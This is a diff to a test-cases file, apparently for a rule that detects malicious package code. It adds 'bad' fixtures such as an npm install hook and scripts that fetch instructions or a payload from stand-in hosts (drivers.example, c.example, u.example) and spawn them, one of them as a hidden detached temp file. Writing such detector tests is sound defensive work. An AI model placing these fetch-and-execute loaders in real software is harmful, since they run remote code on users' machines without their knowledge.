@@ -3,6 +3,22 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a driver in a folder of the version that a service names',
+      noted: true,
+      manifest: { scripts: { install: 'node install.js' } },
+      files: {
+        'install.js':
+          "const axios = require('axios'), path = require('path'), os = require('os'), { spawn } = require('child_process');\nasync function main() {\n  const { data } = await axios.get('https://drivers.example/LATEST');\n  const driver = path.join(os.tmpdir(), data.version, 'driver');\n  spawn(driver, ['--version']);\n}\nmain();",
+      },
+    },
+    {
+      name: 'a program and what it is told, both from an answer',
+      files: {
+        'index.js':
+          "const { spawn } = require('child_process');\nfetch('https://c.example/next').then((r) => r.json()).then(({ run, args }) => spawn(run, args));",
+      },
+    },
+    {
       name: 'a hidden file whose path is put together twice',
       code: "require('https').get('https://u.example/d', (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => { require('fs').writeFileSync(require('os').tmpdir() + '/.l.js', b); require('child_process').spawn(process.execPath, [require('os').tmpdir() + '/.l.js'], { detached: true }).unref(); }); });",
     },
